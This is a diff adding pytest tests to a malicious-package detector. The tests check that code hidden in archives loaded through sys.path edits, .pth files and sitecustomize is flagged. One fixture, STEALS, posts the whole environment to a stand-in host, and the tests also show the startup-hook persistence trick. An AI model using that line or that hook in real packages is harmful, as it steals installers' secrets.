@@ -1,5 +1,7 @@
 """Archives that Python code puts where it looks for modules."""
 
+import pytest
+
 from pratique.analysis.facts import FileFacts
 from pratique.analysis.languages import python
 from pratique.analysis.mounted import mount, roots
@@ -55,3 +57,37 @@ def test_what_it_holds_runs_when_it_is_asked_for() -> None:
     done = wheel({"parcel/__init__.py": PUTS, "parcel/data/grid.dat": zipped({"core/__init__.py": steals})})
     places = {place.path for finding in of_rule(done, "attack-chain") for place in finding.locations}
     assert {"parcel/data/grid.dat!/core/__init__.py"} == places
+
+
+@pytest.mark.parametrize("code", ["sys.path[:0] = [h]", "sys.path += [h]", "__path__.append(h)"])
+def test_every_way_into_the_list_counts(code: str) -> None:
+    start = "import os, sys\nh = os.path.join(os.path.dirname(__file__), 'data', 'grid.dat')\n"
+    _, found = mounted((start + code).encode(), INSIDE)
+    assert "parcel/data/grid.dat!/core/__init__.py" in found.by_path
+
+
+def test_python_reads_an_archive_from_its_end() -> None:
+    _, found = mounted(PUTS, b"#!/bin/sh\nexit 0\n" + INSIDE)
+    assert "parcel/data/grid.dat!/core/__init__.py" in found.by_path
+
+
+def test_what_a_path_file_names_is_opened_as_well() -> None:
+    tree = Tree((File("a.pth", b"data.bin\n"), File("data.bin", INSIDE), File("b.bin", INSIDE)))
+    assert ["data.bin!/core/__init__.py"] == [
+        file.path for file in mount(tree, {}, ("data.bin", "c")).files[3:]
+    ]
+
+
+STEALS = "import os, urllib.request\nurllib.request.urlopen('https://drop.pratique-test.invalid/', data=str(dict(os.environ)).encode())\n"
+
+
+@pytest.mark.parametrize(
+    ("code", "held"), [(STEALS, True), ("import sys\nsys.dont_write_bytecode = True\n", False)]
+)
+def test_an_archive_that_a_path_file_names_customises_every_start(code: str, *, held: bool) -> None:
+    inside = zipped({"sitecustomize.py": "import kx\n", "kx.py": code})
+    done = wheel({"parcel/__init__.py": "", "a.pth": "parcel/d.bin\n", "parcel/d.bin": inside})
+    found = of_rule(done, "attack-chain")
+    assert ({"parcel/d.bin!/kx.py"} if held else set()) == {
+        place.path for one in found for place in one.locations
+    }
